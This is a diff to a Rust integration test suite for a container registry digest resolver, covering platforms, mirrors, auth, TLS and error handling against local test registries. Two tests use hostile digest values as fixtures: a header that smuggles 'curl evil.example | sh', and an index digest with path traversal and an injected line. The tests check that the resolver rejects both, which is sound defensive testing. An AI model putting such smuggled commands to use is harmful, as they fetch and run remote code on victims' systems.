@@ -1,32 +1,652 @@
-//! The registry resolver against real registries on 127.0.0.1.
+//! The registry resolver against real registries on 127.0.0.1: every digest asserted
+//! here is one the harness pushed.
 
 mod support;
 
-use support::{ImageKind, Registry};
+use pin::reference::{Digest, ImageRef};
+use pin::resolve::registry::{RegistryConfig, RegistryResolver};
+use pin::resolve::{Lookup, ResolveError, ResolveErrorKind, Resolver, resolve_all};
+use support::push::{DOCKER_MANIFEST, OCI_INDEX, sha256_digest};
+use support::{FakeRegistry, FakeResponse, ImageKind, Registry, TokenOptions};
 
-#[test]
-fn harness_pushes_every_kind() {
-    let registry = Registry::start();
-    for kind in [
-        ImageKind::Oci,
-        ImageKind::Docker,
-        ImageKind::OciIndex(&["linux/amd64", "linux/arm64/v8"]),
-        ImageKind::DockerList(&["linux/amd64", "linux/arm/v7"]),
-    ] {
-        let pushed = registry.push_image("library/python", "3.12", kind);
-        assert!(pushed.digest.starts_with("sha256:"));
+const TWO_ARCH: &[&str] = &["linux/amd64", "linux/arm64/v8"];
+const THREE_ARCH: &[&str] = &["linux/amd64", "linux/arm/v7", "linux/arm64/v8"];
+
+fn runtime() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("tokio runtime")
+}
+
+/// The lookup for an image reference as a file would spell it.
+fn lookup(reference: &str) -> Lookup {
+    Lookup::of(&ImageRef::parse(reference).expect("valid reference"))
+}
+
+/// Plain HTTP for this registry only, no mirrors, no platform.
+fn insecure(registry: &Registry) -> RegistryConfig {
+    RegistryConfig {
+        insecure: vec![registry.host().to_string()],
+        ..RegistryConfig::default()
+    }
+}
+
+// The library's own error type, returned as the resolver returns it.
+#[allow(clippy::result_large_err)]
+fn resolve(config: RegistryConfig, reference: &str) -> Result<Digest, ResolveError> {
+    let resolver = RegistryResolver::new(config).expect("resolver");
+    runtime().block_on(resolver.resolve(&lookup(reference)))
+}
+
+fn resolve_kind(config: RegistryConfig, reference: &str) -> ResolveErrorKind {
+    match resolve(config, reference) {
+        Ok(digest) => panic!("{reference} resolved to {digest}, expected an error"),
+        Err(error) => error.kind,
     }
 }
 
 #[test]
-fn harness_pushes_with_auth() {
-    let basic = Registry::start_with_basic_auth(&[("alice", "secret")]);
-    basic.push_image("team/app", "1", ImageKind::Oci);
-    let token = Registry::start_with_token_auth(support::TokenOptions::default());
-    let pushed = token.push_image(
-        "library/python",
-        "3.12",
-        ImageKind::OciIndex(&["linux/amd64"]),
+fn oci_manifest_resolves_to_the_pushed_digest() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::Oci);
+    let digest = resolve(
+        insecure(&registry),
+        &format!("{}/library/python:3.12", registry.host()),
     );
-    assert!(pushed.digest.starts_with("sha256:"), "{}", token.log());
+    assert_eq!(digest.unwrap().as_str(), pushed.digest);
+}
+
+#[test]
+fn docker_schema2_manifest_resolves_to_the_pushed_digest_not_a_schema1_conversion() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("team/app", "v1", ImageKind::Docker);
+    let digest = resolve(
+        insecure(&registry),
+        &format!("{}/team/app:v1", registry.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), pushed.digest);
+}
+
+#[test]
+fn oci_index_resolves_to_the_index_digest_by_default() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let digest = resolve(
+        insecure(&registry),
+        &format!("{}/library/python:3.12", registry.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), pushed.digest);
+}
+
+#[test]
+fn docker_manifest_list_resolves_to_the_list_digest_by_default() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/node", "20", ImageKind::DockerList(THREE_ARCH));
+    let digest = resolve(
+        insecure(&registry),
+        &format!("{}/library/node:20", registry.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), pushed.digest);
+}
+
+#[test]
+fn untagged_reference_resolves_latest() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/node", "latest", ImageKind::Oci);
+    let digest = resolve(
+        insecure(&registry),
+        &format!("{}/library/node", registry.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), pushed.digest);
+}
+
+#[test]
+fn platform_picks_the_child_of_an_oci_index() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let reference = format!("{}/library/python:3.12", registry.host());
+    for platform in TWO_ARCH {
+        let config = RegistryConfig {
+            platform: Some(platform.parse().unwrap()),
+            ..insecure(&registry)
+        };
+        let digest = resolve(config, &reference).unwrap();
+        assert_eq!(digest.as_str(), pushed.child(platform), "{platform}");
+    }
+}
+
+#[test]
+fn platform_picks_the_child_of_a_docker_manifest_list() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/node", "20", ImageKind::DockerList(THREE_ARCH));
+    let config = RegistryConfig {
+        platform: Some("linux/arm/v7".parse().unwrap()),
+        ..insecure(&registry)
+    };
+    let digest = resolve(config, &format!("{}/library/node:20", registry.host())).unwrap();
+    assert_eq!(digest.as_str(), pushed.child("linux/arm/v7"));
+}
+
+#[test]
+fn platform_arm64_without_variant_matches_arm64_v8() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let config = RegistryConfig {
+        platform: Some("linux/arm64".parse().unwrap()),
+        ..insecure(&registry)
+    };
+    let digest = resolve(config, &format!("{}/library/python:3.12", registry.host())).unwrap();
+    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
+}
+
+#[test]
+fn platform_on_a_single_manifest_returns_its_own_digest() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("team/app", "v1", ImageKind::Docker);
+    let config = RegistryConfig {
+        platform: Some("linux/arm64/v8".parse().unwrap()),
+        ..insecure(&registry)
+    };
+    let digest = resolve(config, &format!("{}/team/app:v1", registry.host())).unwrap();
+    assert_eq!(digest.as_str(), pushed.digest);
+}
+
+#[test]
+fn unknown_platform_is_platform_not_found_listing_the_available_ones() {
+    let registry = Registry::start();
+    registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let config = RegistryConfig {
+        platform: Some("linux/s390x".parse().unwrap()),
+        ..insecure(&registry)
+    };
+    let kind = resolve_kind(config, &format!("{}/library/python:3.12", registry.host()));
+    assert_eq!(
+        kind,
+        ResolveErrorKind::PlatformNotFound(
+            "linux/s390x (available: linux/amd64, linux/arm64/v8)".to_string()
+        )
+    );
+}
+
+#[test]
+fn missing_tag_is_not_found() {
+    let registry = Registry::start();
+    registry.push_image("library/python", "3.12", ImageKind::Oci);
+    let reference = format!("{}/library/python:3.99", registry.host());
+    let error = resolve(insecure(&registry), &reference).unwrap_err();
+    assert_eq!(error.kind, ResolveErrorKind::NotFound);
+    assert_eq!(error.host, registry.host());
+    assert_eq!(
+        error.to_string(),
+        format!("{reference}: tag not found (registry {})", registry.host())
+    );
+}
+
+#[test]
+fn missing_repository_is_not_found() {
+    let registry = Registry::start();
+    let kind = resolve_kind(
+        insecure(&registry),
+        &format!("{}/nobody/nothing:1", registry.host()),
+    );
+    assert_eq!(kind, ResolveErrorKind::NotFound);
+}
+
+#[test]
+fn republished_tag_resolves_to_the_new_digest() {
+    let registry = Registry::start();
+    let reference = format!("{}/library/python:3.12", registry.host());
+    let first = registry.push_image("library/python", "3.12", ImageKind::Oci);
+    assert_eq!(
+        resolve(insecure(&registry), &reference).unwrap().as_str(),
+        first.digest
+    );
+    let second = registry.push_image("library/python", "3.12", ImageKind::Oci);
+    assert_ne!(first.digest, second.digest);
+    assert_eq!(
+        resolve(insecure(&registry), &reference).unwrap().as_str(),
+        second.digest
+    );
+}
+
+#[test]
+fn mirror_with_path_prefix_is_asked_for_docker_hub_references() {
+    let mirror = Registry::start();
+    let pushed = mirror.push_image(
+        "hub/library/python",
+        "3.12",
+        ImageKind::DockerList(TWO_ARCH),
+    );
+    let config = RegistryConfig {
+        mirrors: vec![format!("docker.io={}/hub", mirror.host()).parse().unwrap()],
+        ..insecure(&mirror)
+    };
+    let resolver = RegistryResolver::new(config).unwrap();
+    let runtime = runtime();
+    for spelling in [
+        "python:3.12",
+        "docker.io/library/python:3.12",
+        "index.docker.io/library/python:3.12",
+    ] {
+        let digest = runtime
+            .block_on(resolver.resolve(&lookup(spelling)))
+            .unwrap();
+        assert_eq!(digest.as_str(), pushed.digest, "{spelling}");
+    }
+    let error = runtime
+        .block_on(resolver.resolve(&lookup("python:3.99")))
+        .unwrap_err();
+    assert_eq!(error.kind, ResolveErrorKind::NotFound);
+    assert_eq!(error.host, mirror.host(), "errors name the mirror asked");
+}
+
+#[test]
+fn mirror_without_prefix_keeps_the_repository() {
+    let mirror = Registry::start();
+    let pushed = mirror.push_image("org/tool", "1.0", ImageKind::Oci);
+    let config = RegistryConfig {
+        mirrors: vec![format!("ghcr.io={}", mirror.host()).parse().unwrap()],
+        ..insecure(&mirror)
+    };
+    let digest = resolve(config, "ghcr.io/org/tool:1.0").unwrap();
+    assert_eq!(digest.as_str(), pushed.digest);
+}
+
+#[test]
+fn token_auth_anonymous_pull_fetches_one_token_per_repository() {
+    let registry = Registry::start_with_token_auth(TokenOptions::default());
+    let python_312 = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let python_311 = registry.push_image("library/python", "3.11", ImageKind::Docker);
+    let node = registry.push_image("library/node", "20", ImageKind::Oci);
+    let host = registry.host();
+    let lookups = [
+        lookup(&format!("{host}/library/python:3.12")),
+        lookup(&format!("{host}/library/python:3.11")),
+        lookup(&format!("{host}/library/node:20")),
+    ];
+    let resolver = RegistryResolver::new(insecure(&registry)).unwrap();
+    let results = runtime().block_on(resolve_all(&resolver, lookups.clone(), 4, |_| {}));
+    let digest = |i: usize| results[&lookups[i]].as_ref().unwrap().as_str().to_string();
+    assert_eq!(digest(0), python_312.digest);
+    assert_eq!(digest(1), python_311.digest);
+    assert_eq!(digest(2), node.digest);
+    let tokens = registry.token_server().unwrap();
+    assert_eq!(
+        tokens.requests_for("repository:library/python:pull"),
+        1,
+        "{:?}",
+        tokens.requests()
+    );
+    assert_eq!(
+        tokens.requests_for("repository:library/node:pull"),
+        1,
+        "{:?}",
+        tokens.requests()
+    );
+    assert_eq!(tokens.total_requests(), 2);
+}
+
+#[test]
+fn token_auth_with_platform_uses_the_token_for_the_index() {
+    let registry = Registry::start_with_token_auth(TokenOptions::default());
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let config = RegistryConfig {
+        platform: Some("linux/arm64/v8".parse().unwrap()),
+        ..insecure(&registry)
+    };
+    let digest = resolve(config, &format!("{}/library/python:3.12", registry.host())).unwrap();
+    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
+}
+
+#[test]
+fn token_refused_to_anonymous_callers_is_a_token_error() {
+    let registry = Registry::start_with_token_auth(TokenOptions {
+        anonymous_pull: false,
+        users: Vec::new(),
+    });
+    registry.push_image("private/app", "1", ImageKind::Oci);
+    let kind = resolve_kind(
+        insecure(&registry),
+        &format!("{}/private/app:1", registry.host()),
+    );
+    match kind {
+        ResolveErrorKind::Token(message) => {
+            assert!(message.contains("authentication required"), "{message}")
+        }
+        other => panic!("expected a token error, got {other:?}"),
+    }
+}
+
+#[test]
+fn token_endpoint_failure_is_a_token_error() {
+    let registry = Registry::start_with_token_auth(TokenOptions::default());
+    registry.push_image("library/python", "3.12", ImageKind::Oci);
+    registry.token_server().unwrap().set_failure(Some(503));
+    let kind = resolve_kind(
+        insecure(&registry),
+        &format!("{}/library/python:3.12", registry.host()),
+    );
+    assert!(matches!(kind, ResolveErrorKind::Token(_)), "{kind:?}");
+}
+
+#[test]
+fn basic_auth_registry_without_credentials_is_unauthorized() {
+    let registry = Registry::start_with_basic_auth(&[("alice", "secret")]);
+    registry.push_image("team/app", "1", ImageKind::Oci);
+    let kind = resolve_kind(
+        insecure(&registry),
+        &format!("{}/team/app:1", registry.host()),
+    );
+    assert_eq!(
+        kind,
+        ResolveErrorKind::Unauthorized {
+            tried: "no credentials".to_string()
+        }
+    );
+}
+
+#[test]
+fn plain_http_is_used_only_for_hosts_listed_as_insecure() {
+    let registry = Registry::start();
+    let pushed = registry.push_image("library/python", "3.12", ImageKind::Oci);
+    let reference = format!("{}/library/python:3.12", registry.host());
+    // Not listed: HTTPS to a plain-HTTP server fails instead of falling back.
+    let kind = resolve_kind(RegistryConfig::default(), &reference);
+    match kind {
+        ResolveErrorKind::Network(message) => assert!(
+            message.contains(&format!("pass --insecure-registry {}", registry.host())),
+            "{message}"
+        ),
+        other => panic!("expected a network error, got {other:?}"),
+    }
+    let other_host = RegistryConfig {
+        insecure: vec!["127.0.0.1".to_string(), "localhost:5000".to_string()],
+        ..RegistryConfig::default()
+    };
+    let kind = resolve_kind(other_host, &reference);
+    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+    // Listed: plain HTTP.
+    assert_eq!(
+        resolve(insecure(&registry), &reference).unwrap().as_str(),
+        pushed.digest
+    );
+}
+
+#[test]
+fn insecure_mirror_target_is_spoken_to_over_http() {
+    let mirror = Registry::start();
+    let pushed = mirror.push_image("library/python", "3.12", ImageKind::Oci);
+    let mirrors = vec![format!("docker.io={}", mirror.host()).parse().unwrap()];
+    let secure = RegistryConfig {
+        mirrors: mirrors.clone(),
+        ..RegistryConfig::default()
+    };
+    let kind = resolve_kind(secure, "python:3.12");
+    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+    let config = RegistryConfig {
+        mirrors,
+        ..insecure(&mirror)
+    };
+    assert_eq!(
+        resolve(config, "python:3.12").unwrap().as_str(),
+        pushed.digest
+    );
+}
+
+#[test]
+fn unreachable_registry_is_a_network_error() {
+    let port = support::registry::free_port();
+    let host = format!("127.0.0.1:{port}");
+    let config = RegistryConfig {
+        insecure: vec![host.clone()],
+        ..RegistryConfig::default()
+    };
+    let kind = resolve_kind(config, &format!("{host}/library/python:3.12"));
+    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+}
+
+// What a real registry will not do, from a scripted one.
+
+const PYTHON_TAG: &str = "/v2/library/python/manifests/3.12";
+
+fn fake_config(fake: &FakeRegistry) -> RegistryConfig {
+    RegistryConfig {
+        insecure: vec![fake.host()],
+        ..RegistryConfig::default()
+    }
+}
+
+#[test]
+fn rate_limit_is_reported_with_the_remaining_header() {
+    let fake = FakeRegistry::start();
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(429).header("ratelimit-remaining", "0;w=21600"),
+    );
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(
+        kind,
+        ResolveErrorKind::RateLimited {
+            remaining: Some("0;w=21600".to_string())
+        }
+    );
+}
+
+#[test]
+fn server_error_is_reported_with_its_status() {
+    let fake = FakeRegistry::start();
+    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(503));
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(
+        kind,
+        ResolveErrorKind::Status {
+            status: 503,
+            remaining: None
+        }
+    );
+}
+
+#[test]
+fn forbidden_is_unauthorized() {
+    let fake = FakeRegistry::start();
+    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(403));
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert!(
+        matches!(kind, ResolveErrorKind::Unauthorized { .. }),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn hostile_digest_header_is_rejected() {
+    let fake = FakeRegistry::start();
+    let hostile = format!("{} && curl evil.example | sh", sha256_digest(b"x"));
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", DOCKER_MANIFEST)
+            .header("Docker-Content-Digest", &hostile),
+    );
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert!(
+        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn head_without_digest_header_falls_back_to_get_and_hashes_the_exact_bytes() {
+    let fake = FakeRegistry::start();
+    // Docker writes manifests with 3-space indentation: re-serialising would change it.
+    let manifest = b"{\n   \"schemaVersion\": 2,\n   \"mediaType\": \"application/vnd.docker.distribution.manifest.v2+json\"\n}";
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200).header("Content-Type", DOCKER_MANIFEST),
+    );
+    fake.on(
+        "GET",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", DOCKER_MANIFEST)
+            .body(manifest),
+    );
+    let digest = resolve(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), sha256_digest(manifest));
+    let requests = fake.requests();
+    assert_eq!(
+        requests,
+        [
+            "GET /v2/",
+            &format!("HEAD {PYTHON_TAG}"),
+            &format!("GET {PYTHON_TAG}")
+        ],
+    );
+}
+
+#[test]
+fn hostile_child_digest_in_an_index_is_rejected() {
+    let fake = FakeRegistry::start();
+    let index = format!(
+        r#"{{"schemaVersion":2,"mediaType":"{OCI_INDEX}","manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":2,"digest":"sha256:../../x\nFROM evil","platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#
+    );
+    let digest = sha256_digest(index.as_bytes());
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .header("Docker-Content-Digest", &digest),
+    );
+    fake.on(
+        "GET",
+        &format!("/v2/library/python/manifests/{digest}"),
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .body(index.as_bytes()),
+    );
+    let config = RegistryConfig {
+        platform: Some("linux/amd64".parse().unwrap()),
+        ..fake_config(&fake)
+    };
+    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
+    assert!(
+        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn index_whose_bytes_do_not_match_its_digest_is_rejected() {
+    let fake = FakeRegistry::start();
+    let claimed = sha256_digest(b"something else");
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .header("Docker-Content-Digest", &claimed),
+    );
+    fake.on(
+        "GET",
+        &format!("/v2/library/python/manifests/{claimed}"),
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .body(br#"{"schemaVersion":2,"manifests":[]}"#),
+    );
+    let config = RegistryConfig {
+        platform: Some("linux/amd64".parse().unwrap()),
+        ..fake_config(&fake)
+    };
+    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
+    assert!(matches!(kind, ResolveErrorKind::Protocol(_)), "{kind:?}");
+}
+
+#[test]
+fn https_registry_is_trusted_through_ca_files() {
+    let plain = Registry::start();
+    let pushed = plain.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
+    let tls = plain.serve_over_tls();
+    let reference = format!("{}/library/python:3.12", tls.host());
+    let kind = resolve_kind(RegistryConfig::default(), &reference);
+    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+    let config = RegistryConfig {
+        ca_files: vec![tls.ca_file().to_path_buf()],
+        platform: Some("linux/arm64/v8".parse().unwrap()),
+        ..RegistryConfig::default()
+    };
+    let digest = resolve(config, &reference).unwrap();
+    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
+}
+
+#[test]
+fn unreadable_ca_file_is_refused_when_the_resolver_is_made() {
+    let dir = tempfile::tempdir().unwrap();
+    let missing = dir.path().join("missing.pem");
+    let error = RegistryResolver::new(RegistryConfig {
+        ca_files: vec![missing.clone()],
+        ..RegistryConfig::default()
+    })
+    .err()
+    .expect("a missing CA file is an error");
+    assert!(error.contains(&missing.display().to_string()), "{error}");
+    let not_pem = dir.path().join("not.pem");
+    std::fs::write(&not_pem, "hello").unwrap();
+    let error = RegistryResolver::new(RegistryConfig {
+        ca_files: vec![not_pem.clone()],
+        ..RegistryConfig::default()
+    })
+    .err()
+    .expect("a file without certificates is an error");
+    assert!(error.contains("not.pem"), "{error}");
+}
+
+#[test]
+fn harness_token_server_grants_pull_to_known_users_only() {
+    let registry = Registry::start_with_token_auth(TokenOptions {
+        anonymous_pull: false,
+        users: vec![("alice".to_string(), "secret".to_string())],
+    });
+    let tokens = registry.token_server().unwrap();
+    let agent = ureq::Agent::new_with_config(
+        ureq::Agent::config_builder()
+            .http_status_as_error(false)
+            .build(),
+    );
+    let url = format!(
+        "{}?service={}&scope=repository%3Aprivate%2Fapp%3Apull",
+        tokens.realm(),
+        support::token::SERVICE
+    );
+    let status = |credentials: Option<&str>| {
+        let mut request = agent.get(&url);
+        if let Some(credentials) = credentials {
+            use base64::Engine as _;
+            let encoded = base64::engine::general_purpose::STANDARD.encode(credentials);
+            request = request.header("Authorization", format!("Basic {encoded}"));
+        }
+        request.call().unwrap().status().as_u16()
+    };
+    assert_eq!(status(None), 401);
+    assert_eq!(status(Some("alice:wrong")), 401);
+    assert_eq!(status(Some("alice:secret")), 200);
+    assert_eq!(tokens.requests_for("repository:private/app:pull"), 3);
 }
